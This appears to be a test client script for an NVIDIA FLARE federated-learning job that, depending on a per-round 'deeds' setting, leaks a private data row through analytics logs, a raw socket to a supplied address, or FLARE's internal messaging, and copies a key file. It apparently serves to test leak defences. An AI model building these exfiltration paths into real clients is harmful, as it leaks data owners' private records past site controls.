"""The uploaded script: answers each task with a deed of the list."""

import argparse
import socket
from pathlib import Path

import nvflare.client as flare
from deeds import COUNT, act, private_row
from nvflare.apis.analytix import AnalyticsDataType
from nvflare.fuel.f3.cellnet.core_cell import Message as CellMessage

STEPS = "NUM_STEPS_CURRENT_ROUND"


def main():
    """Until the job ends."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--deeds", default="honest")
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--address", default="")
    parser.add_argument("--key", type=Path, default=Path())
    parser.add_argument("--out", type=Path, default=Path())
    options = parser.parse_args()
    deeds = options.deeds.split(",")
    flare.init()
    while flare.is_running():
        model = flare.receive()
        if model is None:
            break
        turn = int(model.current_round)
        if deeds[turn] == "analytics":
            flare.log(private_row(options.seed).hex(), 1.0, AnalyticsDataType.SCALAR)
        if deeds[turn] == "socket":
            # Not through FLARE at all: what only a rule of the network can stop.
            host, port = options.address.split(":")
            with socket.create_connection((host, int(port)), timeout=5) as connection:
                connection.sendall(private_row(options.seed))
            options.out.write_bytes(options.key.read_bytes())
        if deeds[turn] == "cell":
            # FLARE's own network, which a rule of the site's network lets through
            cell = flare.api.get_context().api._cell
            message = CellMessage(payload=private_row(options.seed))
            cell.fire_and_forget(channel="any", topic="any", targets="server", message=message)
        made = act(deeds[turn], model.params, seed=options.seed, turn=turn)
        meta = {STEPS if name == COUNT else name: value for name, value in made.metrics.items()}
        arrays = {name: made.arrays[name] for name in made.order}
        flare.send(flare.FLModel(params=arrays, meta={**meta, **made.documents}))


if __name__ == "__main__":
    main()
